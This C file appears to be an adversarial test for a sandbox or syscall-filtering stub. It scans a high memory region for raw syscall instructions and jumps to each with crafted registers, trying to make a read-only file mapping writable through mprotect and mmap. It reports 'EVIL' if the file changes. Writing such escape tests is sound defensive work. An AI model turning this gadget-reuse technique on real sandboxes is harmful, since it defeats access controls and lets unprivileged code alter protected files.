/* SPDX-License-Identifier: Apache-2.0 */
/* A file that this user may only read, mapped: the stub's own instructions must not make the mapping writable, nor another one of a descriptor
 * that the stub holds. */
#include "evil.h"
#include <fcntl.h>
#include <sys/stat.h>
static uint64_t gadgets[64];
static int ngadgets;
static char stack[32768] __attribute__((aligned(16)));
static struct { long nr, a, b, c, d, e; uint64_t to; } want;
static void landing(void) { for (;;) usleep(100000); }
static void *jumper(void *x)
{
	uint64_t *s = (uint64_t *)stack;
	(void)x;
	for (int i = 0; i < 4096; i++)
		s[i] = (uint64_t)landing;
	register long r10 __asm__("r10") = want.d;
	register long r8 __asm__("r8") = want.e;
	register uint64_t to __asm__("r11") = want.to;
	__asm__ volatile("mov %0, %%rsp; mov %0, %%rbx; mov %0, %%rbp; mov %0, %%r12; mov %0, %%r13; mov %0, %%r14; mov %0, %%r15; xor %%r9d, %%r9d;"
			 "jmp *%3" : : "c"(s + 2048), "a"(want.nr), "D"(want.a), "r"(to), "S"(want.b), "d"(want.c), "r"(r10), "r"(r8) : "memory");
	return NULL;
}
static void attack(long nr, long a, long b, long c, long d, long e, char *target)
{
	for (int g = 0; g < ngadgets; g++) {
		pid_t p = fork();
		if (!p) {
			pthread_t t;
			signal(SIGALRM, SIG_DFL);
			alarm(5);
			want = (typeof(want)){ nr, a, b, c, d, e, gadgets[g] };
			pthread_create(&t, NULL, jumper, NULL);
			usleep(10000);
			if (can_write((uint64_t)target))
				*target = 'X';
			_exit(0);
		}
		int st;
		waitpid(p, &st, 0);
	}
}
int main(void)
{
	struct range r[64];
	char name[] = "/tmp/readonly.XXXXXX", buf[2] = "";
	int w = mkstemp(name);
	(void)!write(w, "original", 8);
	ftruncate(w, 8192);
	fchmod(w, 0444);
	close(w);
	probe_init();
	int n = find_high(r, 64);
	for (int i = 0; i < n; i++)
		for (uint64_t a = r[i].start; !r[i].w && a + 2 < r[i].end; a++)
			if (a >= 0x7fffb0000000 && a < 0x7fffb0010000 && !memcmp((void *)a, "\x0f\x05", 2) && ngadgets < 64)
				gadgets[ngadgets++] = a;
	printf("%d gadgets\n", ngadgets);
	fflush(stdout);
	if (setgid(1000) || setuid(1000))
		return 1;
	int fd = open(name, O_RDONLY);
	if (open(name, O_RDWR) >= 0)
		return 1;
	char *shared = mmap(NULL, 4096, PROT_READ, MAP_SHARED, fd, 0), *again = mmap(NULL, 4096, PROT_READ, MAP_SHARED, fd, 4096);
	char *room = mmap(NULL, 4096, PROT_NONE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	if (shared == MAP_FAILED || again == MAP_FAILED || shared[0] != 'o' || again[0])
		return 1;
	attack(10, (long)shared, 4096, PROT_READ | PROT_WRITE, 0, 0, shared);
	for (int k = 32; k < 34; k++) /* where such descriptors are */
		attack(9, (long)room, 4096, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_FIXED, k, room);
	if (pread(fd, buf, 1, 0) != 1 || buf[0] != 'o')
		printf("EVIL: the file reads %s\n", buf);
	unlink(name);
	return 0;
}
